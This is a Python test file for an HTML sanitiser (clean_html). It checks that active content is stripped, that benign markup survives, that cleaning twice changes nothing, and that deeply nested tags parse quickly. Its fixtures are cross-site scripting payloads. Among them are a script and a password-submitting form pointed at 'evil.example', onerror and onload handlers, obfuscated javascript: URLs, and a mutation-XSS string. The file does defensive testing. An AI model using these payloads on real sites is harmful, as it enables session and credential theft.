"""HTML that people write, after it was made harmless."""

import pytest

from app.core.markup import ATTRIBUTES, MOST_TAGS, REOPENED, clean_html
from tests.support.effort import effort


@pytest.mark.parametrize(
    "text",
    [
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=steal()>",
        "<svg/onload=steal()>",
        '<a href="javascript:steal()">x</a>',
        '<a href="&#106;avascript:steal()">x</a>',
        '<a href="java\nscript:steal()">x</a>',
        '<a href="data:text/html,<script>steal()</script>">x</a>',
        '<p onclick="steal()" style="background:url(javascript:steal())">x</p>',
        "<iframe src=javascript:steal()></iframe>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=steal()&gt;'>",
        "<form action=//evil.example><input name=password></form>",
        "<style>*{content:'steal()'}</style>",
    ],
)
def test_what_runs_is_taken_out(text: str) -> None:
    """INPUT-18: nothing that runs, loads or submits is stored."""
    cleaned = clean_html(text).lower()

    for part in ("<script", "javascript:", "onerror=steal", "onload", "onclick", "style", "data:"):
        assert part not in cleaned.replace("&lt;", "")
    for tag in ("<img", "<svg", "<iframe", "<form", "<input", "<math"):
        assert tag not in cleaned


def test_what_an_author_writes_stays() -> None:
    text = "<h1>Title</h1><p>One <strong>bold</strong> word, <em>one</em> &amp; two.</p>"

    assert clean_html(text) == text


def test_a_link_that_opens_cannot_reach_back() -> None:
    cleaned = clean_html('<a href="https://example.com" target="_blank">x</a>')

    assert cleaned == '<a href="https://example.com" rel="noopener noreferrer nofollow">x</a>'


def test_cleaning_twice_changes_nothing() -> None:
    """What is read, edited and sent back must not grow."""
    once = clean_html("<p>a < b & c</p><b>open")

    assert clean_html(once) == once


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("".join(f"<b x={n}><p>" for n in range(MOST_TAGS // 2)), id="all different"),
        pytest.param("".join(f"<B\tx='{n}'><p>" for n in range(MOST_TAGS // 2)), id="in quotes"),
        pytest.param("".join(f"<em/{n}><p>" for n in range(MOST_TAGS // 2)), id="with a slash"),
        pytest.param("<b>" * 100 + "<p>x" * (MOST_TAGS - 100), id="all the same"),
        pytest.param("<ul><li>" * (MOST_TAGS // 2), id="one in the other"),
        pytest.param("<b \"'" * MOST_TAGS, id="quotes without end"),
    ],
)
def test_tags_left_open_cost_little_time(text: str) -> None:
    """DOS-01: a parser opens each again in every paragraph; some of these took seconds."""
    assert effort(lambda: clean_html(text)) < 0.4


def test_more_tags_than_an_article_has_are_refused() -> None:
    with pytest.raises(ValueError, match="too many tags"):
        clean_html("<p>" * (MOST_TAGS + 1))


def test_an_emphasis_loses_its_attributes_and_nothing_else() -> None:
    text = "<b title=\"a > b\" class='x'>bold</b> <EM id=1>one</EM><s/><sup id=x>2</sup><br/>"

    assert clean_html(text) == "<b>bold</b> <em>one</em><s><sup>2</sup><br></s>"
    assert not any(REOPENED.match(f"<{tag} ") for tag in ATTRIBUTES)
